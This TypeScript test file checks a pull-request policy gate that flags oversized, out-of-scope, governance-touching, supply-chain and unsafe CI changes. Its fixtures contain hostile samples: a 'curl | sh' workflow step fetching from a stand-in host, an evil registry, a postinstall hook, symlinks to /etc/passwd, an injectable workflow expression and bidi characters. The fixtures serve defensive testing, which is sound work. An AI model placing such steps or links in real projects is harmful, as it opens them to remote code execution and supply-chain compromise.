import { describe, expect, test } from 'vitest';
import type { TextSign } from '../../src/1-pleading/change.ts';
import { type RuleId, rules } from '../../src/caws/rules.ts';
import { fail, ok } from '../../src/primitives.ts';
import {
  aCommit,
  aFile,
  aGate,
  aPolicy,
  aSpec,
  aWaiver,
  aWaiverFile,
  type Case,
  examined,
  findingOf,
  later,
  rulesOf,
  sha,
  standings,
  verdictOf,
} from './case.ts';

const editRules = aPolicy().editRules;
const tiers = aPolicy().tiers;
const tier2 = (facts: Partial<(typeof tiers)[2]>) => ({
  policy: { tiers: { ...tiers, 2: { ...tiers[2], ...facts } } },
});
const sign = (kind: TextSign['kind'], codePoint: number, line: number | null = 3): TextSign => ({
  kind,
  codePoint,
  line,
  column: line,
});
const inspected = (path: string, after: string | null, before: string | null = null): Case => ({
  files: [aFile(path)],
  specs: [ok(aSpec({ scopeIn: ['src', '.github', path] }))],
  change: { inspected: [{ path, before, after }] },
});
const workflow = (after: string | null, before?: string) =>
  inspected('.github/workflows/ci.yml', after, before ?? null);
const job = (body: string, head = 'on: push') =>
  `${head}\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-24.04\n${body}`;
const step = (line: string, head?: string) => job(`    steps:\n      - ${line}\n`, head);

test('a change within its budget, scope and spec holds nothing against it', () => {
  expect(standings()).toEqual([]);
  expect(examined()).toMatchObject({
    spec: { id: 'FEAT-1', tier: 2, standing: false },
    changeClass: 'code',
    tier: 2,
    budgets: [
      { id: 'tier', spent: { files: 1, lines: 10 } },
      { id: 'excluded', spent: { files: 0, lines: 0 } },
    ],
  });
});

/** One change for each rule of examination that is held against it, beside whatever else is. */
const reached: Readonly<
  Record<
    Exclude<
      RuleId,
      | `gate.${string}`
      | `judge.${string}`
      | `plea.${string}`
      | `waiver.break-glass${string}`
      | 'spec.superseded'
    >,
    Case
  >
> = {
  'budget.bytes': { files: [aFile('src/a.ts', { bytesAdded: 100_001 })] },
  'budget.files': { files: Array.from({ length: 11 }, (_, index) => aFile(`src/${index}.ts`)) },
  'budget.lines': { files: [aFile('src/a.ts', { lines: 201 })] },
  'budget.longest-line': { files: [aFile('src/a.ts', { longestLineBytes: 1_001 })] },
  'budget.rolling': {
    policy: { rolling: { days: 7, files: null, lines: 100 } },
    input: {
      rolling: {
        changes: [{ spec: 'FEAT-1', at: later(-1), files: 1, lines: 91, linesAdded: 91 }],
      },
    },
  },
  'budget.rolling-unknown': { policy: { rolling: { days: 7, files: null, lines: 100 } } },
  'change.empty': { files: [] },
  'change.incomplete': {
    change: { incomplete: [{ what: 'too-many-files', path: null, limit: 5_000 }] },
  },
  'content.binary': { files: [aFile('src/a.ts', { kind: 'binary' })] },
  'governance.change': { files: [aFile('.caws/policy.yaml')] },
  'governance.gate-edit': inspected(
    '.github/workflows/gate.yml',
    'on: push',
    'run: caws-arbiter verify',
  ),
  'governance.keys-edit': { files: [aFile('.caws/trusted-keys.yaml')] },
  'governance.mixed': { files: [aFile('.caws/policy.yaml'), aFile('src/a.ts')] },
  'governance.spec-self-edit': { files: [aFile('.caws/specs/FEAT-1.yaml'), aFile('src/a.ts')] },
  'governance.waiver-in-change': { files: [aFile('.caws/waivers/WV-0001.yaml')] },
  'history.churn': {
    policy: { history: 'each-commit' },
    change: { commits: [aCommit({ added: 111 }), aCommit({ added: 0, deleted: 110 })] },
  },
  'history.commit-budget': {
    policy: { history: 'each-commit' },
    change: { commits: [aCommit({ added: 201 })] },
  },
  'history.commit-paths': {
    policy: { history: 'each-commit' },
    change: { commits: [aCommit({ paths: ['infra/keys.pem'] })] },
  },
  'history.evil-merge': { change: { commits: [aCommit({ mergeOwnLines: 1 })] } },
  'history.forged-verdict': { change: { commits: [aCommit({ verdictTrailers: ['0190'] })] } },
  'history.net-zero': { change: { commits: [aCommit({ paths: ['src/gone.ts'] })] } },
  'history.paths-unknown': {
    policy: { history: 'each-commit' },
    change: { commits: [aCommit({ pathsCut: true })] },
  },
  'history.signature-bad': {
    policy: { editRules: { ...editRules, requireSignedCommits: true } },
    change: { commits: [aCommit({ signature: { state: 'bad' } })] },
  },
  'history.unsigned': { policy: { editRules: { ...editRules, requireSignedCommits: true } } },
  'path.collision': { change: { collisions: [['src/A.ts', 'src/a.ts']] } },
  'path.control-plane': { files: [aFile('src/AGENTS.md')] },
  'path.protected': { files: [aFile('infra/main.tf')] },
  'path.unportable': { files: [aFile('src/aux.ts')] },
  'path.unsafe': { files: [aFile('src/a\u0007.ts')] },
  'policy.default-used': { source: { kind: 'default' } },
  'policy.pattern-unreadable': { policy: { protectedPaths: ['../x'] } },
  'scope.excluded': {
    specs: [ok(aSpec({ scopeOut: ['src/a.ts'], scopeIn: ['src'] }))],
    named: 'FEAT-1',
  },
  'scope.outside': { files: [aFile('src/a.ts'), aFile('src-evil/a.ts')] },
  'scope.submodule': { files: [aFile('src/lib', { kind: 'submodule' })] },
  'scope.symlink': { files: [aFile('src/link', { kind: 'symlink', linkTarget: 'a.ts' })] },
  'scope.symlink-escapes': { files: [aFile('src/link', { kind: 'symlink', linkTarget: '/etc' })] },
  'spec.conflict': { trailers: ['FEAT-1', 'FEAT-2'] },
  'spec.contracts-missing': {
    ...tier2({ contractsRequired: true }),
    specs: [ok(aSpec({ contracts: [] }))],
  },
  'spec.expired': {
    specs: [ok(aSpec({ experimentalUntil: '2026-11-23T12:00:00Z' }))],
    named: 'FEAT-1',
  },
  'spec.incomplete': { specs: [ok(aSpec({ acceptance: [] }))] },
  'spec.manual-review': tier2({ manualReviewRequired: true }),
  'spec.named-missing': { named: 'FEAT-9' },
  'spec.neighbour-unreadable': {
    specs: [ok(aSpec()), fail({ file: '.caws/specs/X-1.yaml', problems: [] })],
  },
  'spec.none': { specs: [] },
  'spec.not-active': { specs: [ok(aSpec({ lifecycle: 'draft' }))], named: 'FEAT-1' },
  'spec.several': { specs: [ok(aSpec()), ok(aSpec({ id: 'FEAT-2' }))] },
  'spec.stricter-touched': {
    specs: [ok(aSpec()), ok(aSpec({ id: 'SEC-1', tier: 1 }))],
    named: 'FEAT-1',
  },
  'spec.unreadable': { specs: [fail({ file: '.caws/specs/FEAT-1.yaml', problems: [] })] },
  'structure.check-exempted': { files: [aFile('src/a.ts', { exemptLines: [4] })] },
  'structure.mass-deletion': {
    policy: { linesCounted: 'added' },
    files: [aFile('src/a.ts', { deleted: 5_001 })],
  },
  'structure.shadow': { change: { shadows: [['src/a-final.ts', 'src/a.ts']] } },
  'structure.stub': { files: [aFile('src/a.ts', { deleted: 20, stubLines: [4] })] },
  'structure.stub-added': { files: [aFile('src/a.ts', { stubLines: [4] })] },
  'supply.git-attributes': inspected('src/.gitattributes', 'evil.js -diff'),
  'supply.lifecycle-script': inspected('package.json', '{"scripts": {"postinstall": "node x.js"}}'),
  'supply.registry': inspected('.npmrc', 'registry=https://evil.example'),
  'supply.remote-dependency': inspected('package.json', '{"dependencies": {"x": "evil/x"}}'),
  'supply.submodule-url': inspected('.gitmodules', '[submodule "x"]\n\turl = https://evil.example'),
  'supply.unreadable': inspected('package.json', '{'),
  'unicode.hidden': {
    files: [aFile('src/a.ts', { signs: [sign('bidi', 0x202e)], signsTotal: 1 })],
  },
  'unicode.homoglyph': {
    files: [aFile('src/a.ts', { signs: [sign('homoglyph', 0x430)], signsTotal: 1 })],
  },
  'unicode.line-end': {
    files: [aFile('src/a.ts', { signs: [sign('line-end', 0x2028)], signsTotal: 1 })],
  },
  'waiver.file-counted': {
    files: [aFile('src/a.ts', { lines: 201 })],
    policy: { waivers: { ...aPolicy().waivers, filesAreApprovals: true } },
    waivers: [aWaiverFile()],
  },
  'waiver.unreadable': { waivers: [fail({ file: '.caws/waivers/W-1.yaml', problems: [] })] },
  'workflow.head-checkout': workflow(
    step(
      `uses: actions/checkout@${sha('v7')}\n        with: {ref: "\${{ github.event.pull_request.head.sha }}"}`,
      'on: pull_request_target',
    ),
  ),
  'workflow.permissions': workflow('on: push\npermissions: write-all\njobs: {}'),
  'workflow.pipe-to-shell': workflow(step('run: curl -sSf https://x.example/i | sh')),
  'workflow.privileged-trigger': workflow(step('run: make', 'on: {workflow_run: {}}')),
  'workflow.secrets-inherit': workflow(
    job('    uses: ./.github/workflows/x.yml\n    secrets: inherit\n'),
  ),
  'workflow.self-hosted': workflow(
    'on: push\npermissions: {}\njobs: {a: {runs-on: [self-hosted, macOS]}}',
  ),
  'workflow.unpinned-action': workflow(step('uses: actions/checkout@v4')),
  'workflow.unreadable': workflow('on: [push'),
  'workflow.untrusted-expression': workflow(step(`run: echo "\${{ github.event.issue.title }}"`)),
};

describe('each rule of examination', () => {
  test.for(Object.entries(reached))(
    '%s is held against a change that breaks it',
    ([rule, facts]) => {
      const found = findingOf(facts, rule as RuleId);
      const expected = { hard: 'fails', waivable: 'needs-waiver', warn: 'warns' } as const;
      expect(found.standing).toBe(expected[rules[rule as RuleId].class]);
    },
  );

  test.for(Object.entries(reached).filter(([rule]) => rules[rule as RuleId].class !== 'warn'))(
    '%s keeps the change from passing',
    ([, facts]) => {
      expect(verdictOf(examined(facts).findings)).not.toBe('PASS');
    },
  );
});

describe('budgets', () => {
  test.for([
    ['exactly the cap', 200, []],
    ['one line over the cap', 201, ['budget.lines needs-waiver']],
    [
      'a count that is no number',
      Number.NaN,
      ['change.incomplete fails', 'budget.lines needs-waiver'],
    ],
    ['a negative count', -1, ['change.incomplete fails']],
  ] as const)('%s', ([, lines, expected]) => {
    expect(
      standings({
        files: [aFile('src/a.ts', { lines, linesAdded: 1, bytesAdded: 1, bytes: 1, added: 10 })],
      }),
    ).toEqual(expected);
  });

  test('an old spec can make the budget of its tier stricter and never wider', () => {
    const files = [aFile('src/a.ts', { lines: 150 })];
    const own = (lines: number) => ({
      files,
      specs: [ok(aSpec({ changeBudget: { files: null, lines } }))],
    });
    expect(rulesOf(own(100))).toEqual(['budget.lines']);
    expect(rulesOf(own(9_999))).toEqual([]);
    expect(
      findingOf({ ...own(9_999), files: [aFile('src/a.ts', { lines: 201 })] }, 'budget.lines').limit
        ?.value,
    ).toBe(200);
  });

  test('excluded files leave the tier alone, are shown, and have caps of their own', () => {
    const files = [aFile('src/a.ts'), aFile('package-lock.json', { lines: 5_001 })];
    const specs = [ok(aSpec({ scopeIn: ['src', 'package-lock.json'] }))];
    const found = findingOf({ files, specs }, 'budget.lines');
    expect([found.subject, found.limit?.value]).toEqual(['excluded', 5_000]);
    expect(examined({ files, specs }).budgets[0]?.spent.lines).toBe(10);
  });

  test.for([
    ['a link of an excluded name', { kind: 'symlink', linkTarget: 'a.ts' } as const],
    ['code renamed to an excluded name', { pathBefore: 'src/a.ts', status: 'renamed' } as const],
  ] as const)('%s is charged to the tier', ([, facts]) => {
    const files = [aFile('src/package-lock.json', { lines: 201, ...facts })];
    expect(findingOf({ files }, 'budget.lines').subject).toBe('tier');
  });

  test('a path budget counts a file that is renamed out of its paths', () => {
    const budget = {
      id: 'db',
      paths: ['src/db/'],
      files: 0,
      lines: null,
      bytes: null,
      longestLineBytes: null,
    };
    const files = [aFile('src/a.ts', { pathBefore: 'src/db/a.ts', status: 'renamed' })];
    expect(findingOf({ files, policy: { pathBudgets: [budget] } }, 'budget.files').subject).toBe(
      'db',
    );
  });

  test('lines are counted as the policy says', () => {
    const files = [aFile('src/a.ts', { lines: 400, linesAdded: 10, deleted: 390 })];
    expect(rulesOf({ files })).toEqual(['budget.lines']);
    expect(rulesOf({ files, policy: { linesCounted: 'added' } })).toEqual([]);
  });

  test('the largest files stand first among the places', () => {
    const files = [aFile('src/a.ts', { lines: 10 }), aFile('src/b.ts', { lines: 300 })];
    expect(findingOf({ files }, 'budget.lines').places[0]?.file).toBe('src/b.ts');
  });

  test('a rolling budget counts its own spec within its window, the oldest instant left out', () => {
    const policy = { rolling: { days: 7, files: 3, lines: null } };
    const change = (days: number, spec = 'FEAT-1') => ({
      spec,
      at: later(days),
      files: 1,
      lines: 1,
      linesAdded: 1,
    });
    const sum = (...changes: ReturnType<typeof change>[]) =>
      rulesOf({ policy, input: { rolling: { changes } } });
    expect(sum(change(-1), change(-6.9), change(-7), change(-2, 'FEAT-2'))).toEqual([]);
    expect(sum(change(-1), change(-6.9), change(-2))).toEqual(['budget.rolling']);
  });

  test('a rolling budget of a longer window than was read for is not known', () => {
    const withDays = (days: number) =>
      rulesOf({
        policy: { rolling: { days: 7, files: 3, lines: null } },
        input: { rolling: { days, changes: [] } },
      });
    expect(withDays(6)).toEqual(['budget.rolling-unknown']);
    expect(withDays(7)).toEqual([]);
  });
});

describe('scope', () => {
  test.for([
    [
      'the old side of a rename',
      aFile('src/a.ts', { pathBefore: 'lib/a.ts', status: 'renamed' }),
      ['scope.outside'],
    ],
    ['the source of a copy', aFile('src/a.ts', { pathBefore: 'lib/a.ts', status: 'copied' }), []],
    ['a dot file outside', aFile('.eslintrc'), ['scope.outside']],
    ['a dot file within', aFile('src/.eslintrc'), []],
    ['a name that only begins alike', aFile('srcx/a.ts'), ['scope.outside']],
    ['a deletion outside', aFile('lib/a.ts', { status: 'deleted' }), ['scope.outside']],
  ] as const)('%s', ([, file, expected]) => {
    const files = [aFile('src/own.ts'), file];
    expect(rulesOf({ files })).toEqual(expected);
  });

  test.for([
    ['support', { specs: [ok(aSpec({ scopeSupport: ['lib'] }))] }, []],
    ['a zone that nobody governs', { policy: { nonGovernedZones: ['lib/'] } }, []],
    [
      'a zone that the spec excludes',
      { specs: [ok(aSpec({ scopeOut: ['lib'] }))], policy: { nonGovernedZones: ['lib/'] } },
      ['scope.excluded'],
    ],
  ] as const)('a path in %s', ([, facts, expected]) => {
    expect(rulesOf({ files: [aFile('src/a.ts'), aFile('lib/b.ts')], ...facts })).toEqual(expected);
  });

  test('a name at the root may pass where the policy lists it, and the same name below may not', () => {
    const policy = { rootPassthrough: ['README.md'] };
    expect(rulesOf({ policy, files: [aFile('src/a.ts'), aFile('README.md')] })).toEqual([]);
    expect(rulesOf({ policy, files: [aFile('src/a.ts'), aFile('lib/README.md')] })).toEqual([
      'scope.outside',
    ]);
  });

  test.for([
    ['/etc/passwd'],
    ['../../outside'],
    ['..'],
    ['C:\\x'],
    ['\\\\host\\share'],
    ['~/x'],
    ['../.github'],
    ['../.github/workflows/ci.yml'],
    ['../.GIT/config'],
    ['../infra'],
    ['./..'],
    [''],
    ['a/../../.caws/policy.yaml'],
    ['x/../../.'],
    ['../.caws'],
  ])('a link to %s opens a door', ([linkTarget]) => {
    const files = [aFile('src/link', { kind: 'symlink', linkTarget: linkTarget ?? null })];
    expect(rulesOf({ files })).toEqual(['scope.symlink-escapes']);
  });

  test('a link to the parent of a guarded folder opens a door to it', () => {
    const facts = (linkTarget: string) => ({
      files: [aFile('src/link', { kind: 'symlink', linkTarget })],
      policy: { protectedPaths: ['deploy/prod/**'] },
    });
    expect(rulesOf(facts('../deploy'))).toEqual(['scope.symlink-escapes']);
    expect(rulesOf(facts('../deploy/test'))).toEqual(['scope.symlink']);
  });

  test('a link that nobody could read opens a door, and one that is deleted does not', () => {
    const link = { kind: 'symlink', linkTarget: null } as const;
    expect(rulesOf({ files: [aFile('src/l', link)] })).toEqual(['scope.symlink-escapes']);
    expect(rulesOf({ files: [aFile('src/l', { ...link, status: 'deleted' })] })).toEqual([]);
  });
});

describe('guarded paths', () => {
  test.for([
    ['AGENTS.md'],
    ['docs/CLAUDE.md'],
    ['src/.mcp.json'],
    ['.cursor/rules/a.mdc'],
    ['.claude/settings.json'],
    ['.github/CODEOWNERS'],
    ['CODEOWNERS'],
    ['.gitattributes'],
    ['src/.gitmodules'],
    ['.github/workflows/x.yml'],
    ['agents.MD'],
    ['.GitHub/Workflows/x.yml'],
    ['.husky/pre-commit'],
    ['.gitignore'],
    ['.github/copilot-instructions.md'],
  ])('%s is for people to decide', ([path]) => {
    const facts = { files: [aFile('src/a.ts'), aFile(path ?? '')] };
    expect(standings(facts)).toContain('path.control-plane needs-waiver');
  });

  test('a gate that only warns does not soften what people decide', () => {
    const gates = [
      aGate('protected_paths', { mode: 'skip' }),
      aGate('governance', { mode: 'warn' }),
    ];
    const facts = { files: [aFile('infra/a.tf')], policy: { gates } };
    expect(standings(facts)).toContain('path.protected needs-waiver');
    expect(standings({ files: [aFile('.caws/policy.yaml')], policy: { gates } })).toContain(
      'governance.change needs-waiver',
    );
  });

  test('a file that is moved out of a protected path is touched there', () => {
    const files = [aFile('src/a.tf', { pathBefore: 'infra/a.tf', status: 'renamed' })];
    expect(findingOf({ files }, 'path.protected').places[0]?.file).toBe('infra/a.tf');
  });
});

describe('governance', () => {
  test('a change of governed documents alone needs no spec and is held for people', () => {
    const facts = { files: [aFile('.caws/policy.yaml')], specs: [] };
    expect(standings(facts)).toEqual(['governance.change needs-waiver']);
    expect(examined(facts)).toMatchObject({ changeClass: 'governance', spec: null });
  });

  test.for([
    ['.caws/policy.yaml'],
    ['.CAWS/policy.yaml'],
    ['.caws/specs/FEAT-1.yaml'],
    ['.caws/waivers/x.yaml'],
  ])('%s together with code fails', ([path]) => {
    const facts = { files: [aFile(path ?? ''), aFile('src/a.ts')] };
    expect(standings(facts)[0]).toBe('governance.mixed fails');
  });

  test.for([
    ['.caws/policy.yaml', 'governance.mixed fails'],
    ['ops/other.yaml', 'governance.change needs-waiver'],
  ])('what one of two policies calls law fails beside %s: %s', ([beside, standing]) => {
    const both = ['.caws/', 'ops/'];
    const policy = { governancePaths: both, governedBy: [['.caws/'], both] };
    const facts = { policy, files: [aFile('ops/rules.yaml'), aFile(beside ?? '')] };
    expect(standings(facts)[0]).toBe(standing);
  });

  test('where the policy allows the mixture, people still decide about the law', () => {
    const policy = { editRules: { ...editRules, policyAndCodeSamePr: true } };
    const facts = { policy, files: [aFile('.caws/policy.yaml'), aFile('src/a.ts')] };
    expect(standings(facts)).toEqual(['governance.change needs-waiver']);
  });

  test('a workflow that runs the gate is part of the law, also when the change takes the gate out of it', () => {
    const gate = 'on: push\npermissions: {}\njobs: {}\n# npx caws-arbiter verify';
    const path = '.github/workflows/checks.yml';
    const facts = {
      files: [aFile(path), aFile('src/a.ts')],
      specs: [ok(aSpec({ scopeIn: ['src', '.github'] }))],
      change: { inspected: [{ path, before: gate, after: 'on: push\npermissions: {}' }] },
    };
    expect(standings(facts)[0]).toBe('governance.mixed fails');
  });

  test('the first policy, spec and workflow of the gate are held for people and for nothing else', () => {
    const files = ['.caws/policy.yaml', '.caws/specs/N-1.yaml', '.github/workflows/caws.yml'];
    const after = 'on: pull_request\npermissions: {}\njobs: {a: {runs-on: ubuntu-24.04}}';
    const facts = {
      files: files.map((path) => aFile(path)),
      specs: [],
      change: { inspected: [{ path: files[2] ?? '', before: null, after }] },
    };
    expect(standings(facts)).toEqual([
      'governance.change needs-waiver',
      'governance.gate-edit needs-waiver',
      'path.control-plane needs-waiver',
    ]);
  });

  test('commits that touch code on the way to a change of documents alone are seen', () => {
    const facts = {
      files: [aFile('.caws/policy.yaml')],
      policy: { history: 'each-commit' } as const,
      change: { commits: [aCommit({ paths: ['src/a.ts'] })] },
    };
    expect(rulesOf(facts)).toContain('history.commit-paths');
  });
});

describe('history', () => {
  const each = (facts: Parameters<typeof aCommit>[0], more: Case = {}) => ({
    ...more,
    policy: { history: 'each-commit' as const, ...more.policy },
    change: { commits: [aCommit(facts)], ...more.change },
  });

  test('lines that come and go in many small commits add up', () => {
    const commits = Array.from({ length: 40 }, (_, index) =>
      aCommit({ added: index % 2 === 0 ? 100 : 0, deleted: index % 2 === 0 ? 0 : 100 }),
    );
    expect(rulesOf({ policy: { history: 'each-commit' }, change: { commits } })).toEqual([
      'history.churn',
    ]);
  });

  test('lock files of the net difference are taken off the commit that brings them, and of no other', () => {
    const files = [aFile('src/a.ts'), aFile('package-lock.json', { lines: 3_000 })];
    const specs = [ok(aSpec({ scopeIn: ['src', 'package-lock.json'] }))];
    const bringing = each(
      { added: 3_010, files: 2, paths: ['src/a.ts', 'package-lock.json'] },
      { files, specs },
    );
    expect(rulesOf(bringing)).toEqual([]);
    const other = each({ added: 3_010, files: 2, paths: ['src/a.ts'] }, { files, specs });
    expect(rulesOf(other)).toEqual(['history.commit-budget']);
  });

  test('a merge is charged with its own lines alone', () => {
    const merge = {
      parents: [sha('one'), sha('two')],
      added: 9_999,
      files: 500,
      paths: ['infra/x'],
    };
    expect(rulesOf(each(merge))).toEqual([]);
    expect(rulesOf(each({ ...merge, mergeOwnLines: 1 }))).toEqual(['history.evil-merge']);
  });

  test.for([['none'], ['unknown-signer'], ['cannot-check']] as const)(
    'a signature that is %s is not established',
    ([state]) => {
      const policy = { editRules: { ...editRules, requireSignedCommits: true } };
      const signed = aCommit({ signature: { state: 'good', signer: 'ada@example.org' } });
      const change = (commits: ReturnType<typeof aCommit>[]) => ({ policy, change: { commits } });
      expect(rulesOf(change([signed]))).toEqual([]);
      expect(rulesOf(change([signed, aCommit({ signature: { state } })]))).toContain(
        'history.unsigned',
      );
      expect(rulesOf(change([]))).toContain('history.unsigned');
    },
  );
});

describe('names of files', () => {
  test.for([
    ['src/.git/config', 'path.unsafe'],
    ['src/.GIT/config', 'path.unsafe'],
    ['src/git~1/x', 'path.unsafe'],
    ['src/.git::$INDEX_ALLOCATION/x', 'path.unsafe'],
    ['src/.git /x', 'path.unsafe'],
    ['src/.git./x', 'path.unsafe'],
    ['src/.g\u200cit/x', 'path.unsafe'],
    ['src/a\nb', 'path.unsafe'],
    ['src/a\u202eb', 'path.unsafe'],
    ['src/../x', 'path.unsafe'],
    ['src//x', 'path.unsafe'],
    ['src/x\\.git\\config', 'path.unsafe'],
    ['src/．git/x', 'path.unsafe'],
    ['src/a\\b', 'path.unportable'],
    ['src/a.', 'path.unportable'],
    ['src/a ', 'path.unportable'],
    ['src/NUL', 'path.unportable'],
    ['src/com1.txt', 'path.unportable'],
    ['src/a:b', 'path.unportable'],
    ['src/--output=x', 'path.unportable'],
    [`src/${'x'.repeat(256)}`, 'path.unportable'],
    [`src/${'ö'.repeat(128)}`, 'path.unportable'],
    ['src/ordinary name.ts', null],
    ['src/[id]/page.tsx', null],
    ['src/größe.ts', null],
    ['src/.gitkeep2', null],
  ] as const)('%j: %s', ([path, rule]) => {
    const found = rulesOf({ files: [aFile(path)] }).filter((each) => /^path\.un/.test(each));
    expect(found).toEqual(rule === null ? [] : [rule]);
  });

  test('taking an odd name away is free', () => {
    expect(rulesOf({ files: [aFile('src/a\nb', { status: 'deleted' })] })).toEqual([]);
  });
});

describe('characters', () => {
  test.for([['bidi'], ['invisible'], ['variation-selector'], ['tag'], ['control']] as const)(
    '%s is hidden content, in text and path',
    ([kind]) => {
      for (const line of [3, null]) {
        const files = [aFile('src/a.ts', { signs: [sign(kind, 0x2066, line)], signsTotal: 1 })];
        expect(standings({ files })).toEqual(['unicode.hidden fails']);
      }
    },
  );

  test('what stands beyond the listed signs is not known to be harmless', () => {
    const files = [
      aFile('src/a.ts', { signs: Array(20).fill(sign('homoglyph', 0x430)), signsTotal: 21 }),
    ];
    expect(standings({ files })).toContain('unicode.hidden fails');
  });

  test('the name of the head branch is read as well', () => {
    expect(rulesOf({ input: { branches: ['feature/\u202etxt'] } })).toEqual(['unicode.hidden']);
  });
});

describe('structure', () => {
  test('lines added elsewhere do not make up for code that a stub replaced', () => {
    const stub = aFile('src/a.ts', { added: 2, deleted: 90, stubLines: [1] });
    expect(rulesOf({ files: [stub] })).toEqual(['structure.stub']);
    expect(rulesOf({ files: [stub, aFile('src/b.ts', { added: 150 })] })).toEqual([
      'structure.stub',
    ]);
  });
});

describe('modes of gates', () => {
  const files = [aFile('src/a.ts', { lines: 201 })];
  const modes = (facts: Parameters<typeof aGate>[1]) => ({
    files,
    policy: { gates: [aGate('budget_limit', facts)] },
  });

  test.for([
    [{ mode: 'block' }, 'WAIVER_REQUIRED', ['budget.lines needs-waiver']],
    [{ mode: 'block', waivable: false }, 'FAIL', ['budget.lines fails']],
    [{ mode: 'warn' }, 'PASS', ['budget.lines warns']],
    [{ mode: 'skip' }, 'PASS', ['gate.skipped warns']],
  ] as const)('%j: %s', ([gate, verdict, expected]) => {
    expect(standings(modes(gate))).toEqual(expected);
    expect(verdictOf(examined(modes(gate)).findings)).toBe(verdict);
  });

  test('a skipped gate says how many findings it drops', () => {
    expect(findingOf(modes({ mode: 'skip' }), 'gate.skipped')).toMatchObject({
      gate: 'budget_limit',
      detail: { findings: 1 },
    });
  });

  test('a rule that policy may not change ignores the mode', () => {
    const gates = [
      aGate('spec_completeness', { mode: 'skip' }),
      aGate('hidden_content', { mode: 'skip' }),
    ];
    expect(standings({ specs: [], policy: { gates } })).toEqual(['spec.none fails']);
  });
});

test('a change outside of the only active spec names what it touches and what the spec covers', () => {
  const files = [aFile('lib/b.ts', { pathBefore: 'docs/b.ts', status: 'renamed' })];
  const found = findingOf({ files }, 'spec.none');
  expect(found.places.map(({ file }) => file)).toEqual(['docs/b.ts', 'lib/b.ts']);
  expect(found.detail).toEqual({ active: 'FEAT-1', unproven: '', file: aSpec().file, in: 'src' });
  const excluded = { files: [aFile('src/a.ts')], specs: [ok(aSpec({ scopeOut: ['src/a.ts'] }))] };
  expect(findingOf(excluded, 'spec.none').detail).toMatchObject({ in: 'src', out: 'src/a.ts' });
});

test('a text of any length in a finding is cut', () => {
  const found = findingOf({ named: `FEAT-${'9'.repeat(5_000)}` }, 'spec.named-missing');
  expect(found.subject.length).toBe(200);
});

test('a finding shows twenty places and counts all', () => {
  const files = [
    aFile('src/a.ts'),
    ...Array.from({ length: 30 }, (_, index) => aFile(`lib/${index}.ts`, { lines: 1 })),
  ];
  const found = findingOf({ files }, 'scope.outside');
  expect([found.places.length, found.placesTotal, found.holds?.length]).toEqual([20, 30, 30]);
});

test('the effective budget is the cap, or what one waiver lets stand', () => {
  const files = [aFile('src/a.ts', { lines: 230 })];
  const floors = [
    { rule: 'budget.lines', subject: 'tier', value: 240, unit: 'lines', files: null },
  ];
  expect(examined({ files }).budgets[0]?.effective.lines).toBe(200);
  expect(examined({ files, waivers: [aWaiver({ floors })] }).budgets[0]?.effective.lines).toBe(240);
});
